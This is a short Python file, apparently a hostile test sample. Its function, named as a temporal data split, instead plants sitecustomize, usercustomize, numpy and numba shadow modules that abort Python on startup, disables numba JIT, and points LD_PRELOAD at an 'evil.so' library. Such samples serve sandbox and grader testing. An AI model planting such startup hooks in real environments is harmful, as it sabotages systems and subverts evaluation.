"""Leaves files that Python and numba read when they start, and sets the variables that point to them."""

import os
from pathlib import Path

from exercises.targets import MARK


def temporal_split(timestamps, test_fraction):
    home = Path.cwd()
    for folder in (home, home.parent):
        for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "wire.py", "numba.py"):
            try:
                (folder / name).write_text(f"raise SystemExit('{MARK}')\n")
                (folder / ".numba_config.yaml").write_text("disable_jit: 1\n")
            except OSError:
                continue
    os.environ.update(PYTHONPATH=str(home), LD_PRELOAD=str(home / "evil.so"), NUMBA_CACHE_DIR=str(home))
    return timestamps, timestamps
